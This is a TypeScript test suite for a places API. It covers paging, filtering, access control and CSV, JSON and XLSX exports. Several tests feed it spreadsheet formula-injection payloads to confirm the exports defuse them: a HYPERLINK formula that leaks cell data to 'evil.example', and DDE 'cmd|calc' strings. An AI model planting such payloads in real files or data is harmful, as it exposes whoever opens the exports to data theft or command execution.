import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Place } from '@app/google-maps';
import { PlacesService } from '../../src/modules/places/places.service.js';
import { EXPORT_FETCH, Q_WINDOW } from '../../src/modules/places/places.constants.js';
import { TcpProxy } from '../utils/tcp-proxy.js';
import {
  createTestApp,
  createUser,
  waitFor,
  type TestApp,
  type TestUser,
} from '../utils/test-app.js';

/** A place's fields as the HTTP contract lists them, in export order (written out: the spec, not the code). */
const PLACE_CONTRACT_FIELDS = [
  'id',
  'name',
  'address',
  'phone',
  'website',
  'rating',
  'reviews_count',
  'category',
  'latitude',
  'longitude',
  'google_place_id',
  'kecamatan',
  'location',
  'keyword',
  'created_at',
];

function place(name: string, extra: Partial<Place> = {}): Place {
  return {
    name,
    address: `Jl. ${name}`,
    phone: '+62 21 555',
    website: null,
    rating: null,
    reviewsCount: null,
    category: 'Cafe',
    latitude: -6.2,
    longitude: 106.8,
    googlePlaceId: `g-${name}`,
    ...extra,
  };
}

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('Places', () => {
  let t: TestApp;
  let places: PlacesService;
  let ana: TestUser;
  let budi: TestUser;
  let admin: TestUser;
  const keyword = `kopi ${randomUUID().slice(0, 6)}`;

  beforeAll(async () => {
    t = await createTestApp();
    places = t.app.get(PlacesService);
    [ana, budi, admin] = [await createUser(t), await createUser(t), await createUser(t, 'admin')];
    const owner = (user: TestUser, kecamatan: string | null, kw = keyword) => ({
      userId: user.id,
      jobId: null,
      keyword: kw,
      location: 'Jakarta Selatan',
      kecamatan,
    });
    // Ana: 25 in Tebet (ratings 1.0…5.0), 5 in Setiabudi with a tricky name, 3 under another keyword.
    await places.store(
      owner(ana, 'Tebet'),
      Array.from({ length: 25 }, (_, i) =>
        place(`Kopi ${String(i + 1).padStart(2, '0')}`, { rating: 1 + (i % 5), reviewsCount: i }),
      ),
    );
    await places.store(
      owner(ana, 'Setiabudi'),
      Array.from({ length: 5 }, (_, i) => place(`Warung "Enak", No.${i} 100%_`)),
    );
    await places.store(owner(ana, null, 'bakso'), [
      place('Bakso A'),
      place('Bakso B'),
      place('=cmd|calc'),
    ]);
    await places.store(owner(budi, 'Tebet'), [place('Kopi 01'), place('Budi Only')]);
  });
  afterAll(() => t?.close());

  it('lists only your own places, paged, with meta', async () => {
    const page1 = await t.http.get('/api/places?limit=10', ana.token);
    expect(page1.status).toBe(200);
    expect(page1.body.meta).toEqual({
      page: 1,
      limit: 10,
      total: 33,
      next_cursor: expect.any(String),
    });
    expect(page1.body.data).toHaveLength(10);
    expect(Object.keys(page1.body.data[0]).sort()).toEqual([...PLACE_CONTRACT_FIELDS].sort());
    const page4 = await t.http.get('/api/places?limit=10&page=4', ana.token);
    expect(page4.body.data).toHaveLength(3);
    const all = [...page1.body.data];
    for (let p = 2; p <= 4; p++)
      all.push(...(await t.http.get(`/api/places?limit=10&page=${p}`, ana.token)).body.data);
    expect(new Set(all.map((x) => x.id)).size).toBe(33);
    expect(all.some((x) => x.name === 'Budi Only')).toBe(false);
  });

  it('filters by keyword, location, kecamatan and name search (case-insensitive, % and _ literal)', async () => {
    const get = async (query: string) =>
      (await t.http.get(`/api/places?limit=100&${query}`, ana.token)).body;
    expect((await get(`keyword=${encodeURIComponent(keyword.toUpperCase())}`)).meta.total).toBe(30);
    expect((await get('keyword=bakso')).meta.total).toBe(3);
    expect((await get('kecamatan=tebet')).meta.total).toBe(25);
    expect((await get('location=jakarta%20selatan&kecamatan=Setiabudi')).meta.total).toBe(5);
    expect((await get('location=Bandung')).meta.total).toBe(0);
    expect((await get('q=kopi%200')).meta.total).toBe(9);
    expect((await get('q=100%25_')).meta.total).toBe(5);
    expect((await get('q=5%25')).meta.total).toBe(0); // a wildcard would match "Kopi 05"
  });

  it('sorts by name, rating and reviews, either way', async () => {
    const names = async (sort: string) =>
      (
        await t.http.get(`/api/places?kecamatan=Tebet&limit=3&sort=${sort}`, ana.token)
      ).body.data.map((p: { name: string }) => p.name);
    expect(await names('name')).toEqual(['Kopi 01', 'Kopi 02', 'Kopi 03']);
    expect(await names('-name')).toEqual(['Kopi 25', 'Kopi 24', 'Kopi 23']);
    expect(await names('-reviews_count')).toEqual(['Kopi 25', 'Kopi 24', 'Kopi 23']);
    const ratings = (
      await t.http.get('/api/places?kecamatan=Tebet&limit=100&sort=-rating', ana.token)
    ).body.data.map((p: { rating: number }) => p.rating);
    expect(ratings).toEqual([...ratings].sort((a, b) => b - a));
    expect(ratings[0]).toBe(5);
  });

  it('shows one place to its owner and admins; 404 to another user; deletes with 204', async () => {
    const mine = (await t.http.get('/api/places?q=Budi%20Only', budi.token)).body.data[0];
    const one = await t.http.get(`/api/places/${mine.id}`, budi.token);
    expect(one.status).toBe(200);
    expect(one.body).toMatchObject({ id: mine.id, name: 'Budi Only', kecamatan: 'Tebet', keyword });
    expect((await t.http.get(`/api/places/${mine.id}`, ana.token)).status).toBe(404);
    expect((await t.http.delete(`/api/places/${mine.id}`, ana.token)).status).toBe(404);
    expect((await t.http.get(`/api/places/${mine.id}`, admin.token)).status).toBe(200);

    const deleted = await t.http.delete(`/api/places/${mine.id}`, budi.token);
    expect(deleted.status).toBe(204);
    expect(deleted.body).toBe('');
    expect((await t.http.get(`/api/places/${mine.id}`, budi.token)).status).toBe(404);
    expect((await t.http.get(`/api/places/${randomUUID()}`, budi.token)).status).toBe(404);
    expect((await t.http.get('/api/places/not-a-uuid', budi.token)).status).toBe(422);
  });

  it('lets an admin list everyone’s places, or one user’s', async () => {
    const all = await t.http.get(
      `/api/places?keyword=${encodeURIComponent(keyword)}&limit=100`,
      admin.token,
    );
    expect(all.body.meta.total).toBeGreaterThanOrEqual(31);
    const budis = await t.http.get(`/api/places?user_id=${budi.id}`, admin.token);
    expect(budis.body.meta.total).toBe(1);
    // A user cannot use user_id to see someone else's places.
    expect((await t.http.get(`/api/places?user_id=${budi.id}`, ana.token)).body.meta.total).toBe(
      33,
    );
  });

  it('exports the filtered places as CSV, quoted and with formulas defused', async () => {
    const res = await t.http.get(
      `/api/places/export?format=csv&keyword=${encodeURIComponent(keyword)}&sort=name`,
      ana.token,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="places-\d+\.csv"$/,
    );
    const rows = parseCsv((res.body as string).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(PLACE_CONTRACT_FIELDS);
    expect(rows).toHaveLength(31);
    expect(rows[1][1]).toBe('Kopi 01');
    expect(rows.map((r) => r[1])).toContain('Warung "Enak", No.0 100%_');

    const bakso = await t.http.get('/api/places/export?keyword=bakso', ana.token);
    expect(bakso.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(bakso.body).toContain(`'=cmd|calc`);
  });

  it('exports as a JSON array of places', async () => {
    const res = await t.http.get('/api/places/export?format=json&kecamatan=Setiabudi', ana.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('content-disposition')).toMatch(/\.json"$/);
    expect(res.body).toHaveLength(5);
    expect(res.body[0]).toMatchObject({
      kecamatan: 'Setiabudi',
      location: 'Jakarta Selatan',
      keyword,
    });
    const empty = await t.http.get('/api/places/export?format=json&location=Nowhere', ana.token);
    expect(empty.body).toEqual([]);
  });

  it('exports more than one cursor chunk in order', async () => {
    const user = await createUser(t);
    const count = EXPORT_FETCH + 500;
    await places.store(
      { userId: user.id, jobId: null, keyword: 'bulk', location: 'Jakarta', kecamatan: null },
      Array.from({ length: count }, (_, i) => place(`P${String(i).padStart(5, '0')}`)),
    );
    const res = await t.http.get('/api/places/export?format=json&sort=name', user.token);
    expect(res.body).toHaveLength(count);
    expect(res.body[0].name).toBe('P00000');
    expect(res.body[count - 1].name).toBe(`P${String(count - 1).padStart(5, '0')}`);
    const csv = await t.http.get('/api/places/export', user.token);
    expect((csv.body as string).trimEnd().split('\r\n')).toHaveLength(count + 1);
  });

  it('answers 422 for bad query parameters and 401 without a token', async () => {
    for (const query of ['limit=500', 'page=0', 'sort=id', 'user_id=nope', 'unknown=1']) {
      const res = await t.http.get(`/api/places?${query}`, ana.token);
      expect(res.status, query).toBe(422);
    }
    expect((await t.http.get('/api/places/export?format=xml', ana.token)).status).toBe(422);
    expect((await t.http.get('/api/places')).status).toBe(401);
    expect((await t.http.get('/api/places/export')).status).toBe(401);
  });
});

describe('Deleting a place while Redis is unreachable', () => {
  it('answers 503 and keeps the place (its receipts could not be voided), then deletes it once Redis is back', async () => {
    const proxy = await new TcpProxy('127.0.0.1', 6379).start();
    const t = await createTestApp({ env: { REDIS_URL: `redis://127.0.0.1:${proxy.port}/0` } });
    try {
      const user = await createUser(t);
      await t.app
        .get(PlacesService)
        .store(
          { userId: user.id, jobId: null, keyword: 'kopi', location: 'Jakarta', kecamatan: null },
          [place('Kopi Kenangan')],
        );
      const [stored] = (await t.http.get('/api/places', user.token)).body.data;
      const port = proxy.port;
      await proxy.stop();

      const refused = await t.http.delete(`/api/places/${stored.id}`, user.token);
      expect(refused.status).toBe(503);
      expect((await t.http.get(`/api/places/${stored.id}`, user.token)).status).toBe(200);

      await proxy.start(port);
      await waitFor(async () => (await t.http.get('/api/health')).status === 200, {
        what: 'redis to come back',
      });
      expect((await t.http.delete(`/api/places/${stored.id}`, user.token)).status).toBe(204);
      expect((await t.http.get(`/api/places/${stored.id}`, user.token)).status).toBe(404);
    } finally {
      await proxy.stop();
      await t.close();
    }
  });
});

describe('Places: cursor paging, accent-insensitive search, spreadsheet-safe exports', () => {
  let t: TestApp;
  let places: PlacesService;
  beforeAll(async () => {
    t = await createTestApp();
    places = t.app.get(PlacesService);
  });
  afterAll(() => t?.close());

  const owner = (user: TestUser, kecamatan: string | null = null) => ({
    userId: user.id,
    jobId: null,
    keyword: 'kopi',
    location: 'Jakarta',
    kecamatan,
  });

  async function download(path: string, token: string): Promise<Buffer> {
    const res = await fetch(`${t.baseUrl}${path}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  }

  for (const sort of ['-created_at', 'created_at', 'name', '-name', '-rating', 'reviews_count']) {
    it(`pages by cursor (sort=${sort}) without skipping or repeating a row while rows are inserted between pages`, async () => {
      const user = await createUser(t);
      // Ratings and review counts repeat and are sometimes missing: ties and NULLs cross page ends.
      await places.store(
        owner(user),
        Array.from({ length: 60 }, (_, i) =>
          place(`Toko ${String(i).padStart(2, '0')}`, {
            rating: i % 4 === 0 ? null : 1 + (i % 3),
            reviewsCount: i % 5 === 0 ? null : i % 6,
          }),
        ),
      );
      const before = new Set(
        (await t.http.get(`/api/places?limit=100`, user.token)).body.data.map(
          (p: { id: string }) => p.id,
        ),
      );
      expect(before.size).toBe(60);

      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const query: string = `/api/places?limit=7&sort=${sort}${cursor ? `&cursor=${cursor}` : ''}`;
        // Each page is read while another batch of the user's places is being stored.
        const [res] = await Promise.all([
          t.http.get(query, user.token),
          places.store(
            owner(user),
            Array.from({ length: 3 }, (_, i) =>
              place(`${pages % 2 ? 'Aaa' : 'Zzz'} new ${pages}-${i}`, {
                rating: i === 0 ? null : 2,
                reviewsCount: i,
              }),
            ),
          ),
        ]);
        expect(res.status).toBe(200);
        seen.push(...res.body.data.map((p: { id: string }) => p.id));
        cursor = res.body.meta.next_cursor;
        pages++;
      } while (cursor && pages < 100);

      expect(cursor).toBeNull();
      expect(new Set(seen).size).toBe(seen.length); // nothing repeated
      for (const id of before) expect(seen).toContain(id); // nothing skipped
    });
  }

  it('keeps meta.total exact as places are stored and deleted, and rejects foreign or broken cursors with 422', async () => {
    const user = await createUser(t);
    await places.store(owner(user), [place('Satu'), place('Dua')]);
    expect((await t.http.get('/api/places', user.token)).body.meta.total).toBe(2);
    await places.store(owner(user), [place('Tiga')]);
    const listed = await t.http.get('/api/places?limit=1', user.token);
    expect(listed.body.meta.total).toBe(3);
    expect((await t.http.delete(`/api/places/${listed.body.data[0].id}`, user.token)).status).toBe(
      204,
    );
    expect((await t.http.get('/api/places', user.token)).body.meta.total).toBe(2);

    const cursor = listed.body.meta.next_cursor as string;
    for (const bad of [`cursor=${cursor}&sort=name`, 'cursor=bm90LWEtY3Vyc29y', 'cursor=%25%25']) {
      const res = await t.http.get(`/api/places?${bad}`, user.token);
      expect(res.status, bad).toBe(422);
      expect(JSON.stringify(res.body.message)).toMatch(/cursor/);
    }
  });

  it('finds names by substring whatever their case and accents', async () => {
    const user = await createUser(t);
    await places.store(owner(user), [
      place('Kopi Kenangan'),
      place('Warung KOPI'),
      place('Kópi Susu Bu Tini'),
      place('Café Kopí Aceh'),
      place('Teh Manis'),
    ]);
    const names = async (q: string) =>
      (await t.http.get(`/api/places?sort=name&q=${encodeURIComponent(q)}`, user.token)).body.data
        .map((p: { name: string }) => p.name)
        .sort();
    const kopi = ['Café Kopí Aceh', 'Kopi Kenangan', 'Kópi Susu Bu Tini', 'Warung KOPI'];
    expect(await names('kopi')).toEqual(kopi);
    expect(await names('KÓPI')).toEqual(kopi);
    expect(await names('cafe kopi')).toEqual(['Café Kopí Aceh']);
    expect(await names('susu bu')).toEqual(['Kópi Susu Bu Tini']);
    expect(await names('manis')).toEqual(['Teh Manis']);
  });

  it('pages a name search in the same order as the full list, also when its matches lie behind more than Q_WINDOW newer places that do not match', async () => {
    const user = await createUser(t);
    const makmur = (from: number, n: number) =>
      Array.from({ length: n }, (_, i) =>
        place(`Warung Makmur ${from + i}`, { rating: i % 3 === 0 ? null : 1 + (i % 4) }),
      );
    // Oldest: 30 matches; then more non-matching places than the first step looks at; newest: 5 matches.
    await places.store(owner(user), makmur(0, 30));
    await places.store(
      owner(user),
      Array.from({ length: Q_WINDOW + 100 }, (_, i) => place(`Toko Jaya ${i}`)),
    );
    await places.store(owner(user), makmur(30, 5));
    for (const sort of ['-created_at', 'created_at', 'name', '-name', '-rating']) {
      const full = await t.http.get(
        `/api/places/export?format=json&q=MAKMUR&sort=${sort}`,
        user.token,
      );
      const expected = (full.body as Array<{ id: string }>).map((p) => p.id);
      expect(expected, sort).toHaveLength(35);
      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const query: string = `/api/places?q=makmur&limit=7&sort=${sort}${cursor ? `&cursor=${cursor}` : ''}`;
        const res = await t.http.get(query, user.token);
        expect(res.status).toBe(200);
        expect(res.body.meta.total).toBe(35);
        seen.push(...res.body.data.map((p: { id: string }) => p.id));
        cursor = res.body.meta.next_cursor;
      } while (cursor && seen.length < 100);
      expect(seen, sort).toEqual(expected);
    }
  });

  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1+HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it('writes each CSV cell by the rule (formulas neutralised, RFC 4180 quoting, numbers and nulls as they are), the same as the JSON export holds', async () => {
    const user = await createUser(t);
    const tricky = [
      '=1+1',
      '+62 21 555',
      '-5',
      '@x',
      '\t=1',
      '\r=1',
      'a,b',
      'say "hi"',
      'two\nlines',
      'cr\rhere',
      'Kopi = enak',
      'Café Ñandú ☕',
      '=a,"b"\n',
    ];
    await places.store(
      owner(user),
      tricky.map((text, i) =>
        place(`${text} ${i}`, {
          address: text,
          phone: i % 2 ? text : null,
          website: i % 3 ? null : text,
          rating: i % 2 ? 4.3 : null,
          reviewsCount: i,
          category: text,
          latitude: -6.123456789 - i / 7,
          longitude: 106.8 + i / 3,
          googlePlaceId: text,
        }),
      ),
    );
    const cell = (value: string | number | null): string => {
      if (value === null) return '';
      if (typeof value === 'number') return String(value);
      const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
    };
    const json = await t.http.get('/api/places/export?format=json&sort=name', user.token);
    expect(json.body).toHaveLength(tricky.length);
    const expected =
      [
        PLACE_CONTRACT_FIELDS.join(','),
        ...json.body.map((row: Record<string, string | number | null>) =>
          PLACE_CONTRACT_FIELDS.map((field) => cell(row[field])).join(','),
        ),
      ].join('\r\n') + '\r\n';
    const csv = await download('/api/places/export?format=csv&sort=name', user.token);
    expect(csv.toString('utf8')).toBe(expected);
  });

  it('neutralises formulas in CSV with a leading quote, phone numbers included, and adds a BOM on request', async () => {
    const user = await createUser(t);
    await places.store(
      owner(user),
      PAYLOADS.map((payload, i) =>
        place(`${payload} ${i}`, { address: payload, phone: i === 1 ? payload : '+62 21 555' }),
      ),
    );
    const plain = await download('/api/places/export?format=csv&sort=name', user.token);
    expect(plain[0]).toBe('i'.charCodeAt(0)); // no BOM unless asked
    const withBom = await download('/api/places/export?format=csv&bom=true', user.token);
    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const rows = parseCsv(plain.toString('utf8')).slice(1);
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) {
      const [name, address, phone] = [row[1], row[2], row[3]];
      for (const cell of [name, address, phone]) expect(cell, cell).toMatch(/^'[=+\-@\t\r]/);
      expect(PAYLOADS).toContain(address.slice(1));
    }
    expect(rows.map((r) => r[3])).toContain("'+62 21 555");
    expect(rows.map((r) => r[3])).toContain(`'${PAYLOADS[1]}`);
    // Numbers stay numbers (a negative latitude is not text).
    expect(rows[0][8]).toBe('-6.2');
  });

  it('exports a real XLSX workbook: typed cells, frozen filtered header, neutralised formulas, phones as text', async () => {
    const user = await createUser(t);
    await places.store(owner(user, 'Tebet'), [
      ...PAYLOADS.map((payload, i) => place(`${payload} ${i}`, { address: payload })),
      place('Kópi Kenangan', { rating: 4.5, reviewsCount: 120, phone: '+62 21 7654321' }),
    ]);
    const res = await fetch(`${t.baseUrl}/api/places/export?format=xlsx&sort=name`, {
      headers: { authorization: `Bearer ${user.token}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers.get('content-disposition')).toMatch(/\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(PAYLOADS.length + 2);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(PLACE_CONTRACT_FIELDS);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toMatch(/^A1:O8$/);

    const rows = Array.from({ length: PAYLOADS.length + 1 }, (_, i) => sheet.getRow(i + 2));
    const kopi = rows.find((row) => row.getCell(2).value === 'Kópi Kenangan')!;
    expect(kopi.getCell(6).type).toBe(ExcelJS.ValueType.Number);
    expect(kopi.getCell(6).value).toBe(4.5);
    expect(kopi.getCell(7).value).toBe(120);
    expect(kopi.getCell(9).value).toBe(-6.2);
    expect(kopi.getCell(4).type).toBe(ExcelJS.ValueType.String);
    expect(kopi.getCell(4).value).toBe('+62 21 7654321'); // readable: a text cell, no quote
    expect(kopi.getCell(15).type).toBe(ExcelJS.ValueType.Date);
    for (const row of rows) {
      for (let column = 1; column <= 15; column++)
        expect(row.getCell(column).type).not.toBe(ExcelJS.ValueType.Formula);
      if (row === kopi) continue;
      // (XML reads a CR back as LF.)
      expect(row.getCell(2).value).toMatch(/^'[=+\-@\t\n]/);
      expect(PAYLOADS).toContain((row.getCell(3).value as string).slice(1).replace(/^\n/, '\r'));
    }
  });
});
